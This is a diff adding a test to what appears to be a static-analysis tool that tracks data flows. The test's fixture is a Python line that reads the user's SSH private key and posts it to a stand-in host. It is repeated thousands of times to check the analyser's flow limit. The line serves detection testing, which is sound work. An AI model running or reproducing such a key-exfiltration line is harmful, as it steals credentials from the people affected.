@@ -57,6 +57,13 @@ test('the package has so much for syntax that is not ordinary, and not more', as
   expect(gaps).toEqual(['syntax not understood', 'too much that fits no grammar', beyond, beyond]);
 });
 
+test('of very many flows of data the first are judged, and that there are more is a gap', async () => {
+  const theft = 'requests.post("http://drop.invalid", data=open(os.path.expanduser("~/.ssh/id_rsa")).read())\n';
+  const reading = await readWith(`import os, requests\n${theft.repeat(2_500)}`, parsers.best);
+  expect(reading.facts?.flows({ from: 'credentials', to: 'network' })).toHaveLength(2_000);
+  expect(reading.gaps).toMatchObject([{ kind: 'runs', why: 'more than 2000 flows of data: the others were not judged' }]);
+});
+
 test('pieces that make no sense and stand in one line are quoted with that line once', async () => {
   const text = `${'x = 1 2; '.repeat(3_000)}\nok = 1\n${'y = 3 4\n'.repeat(3)}`;
   const unreadable = unreadableSyntax((await parsers.wasm).parse(text));
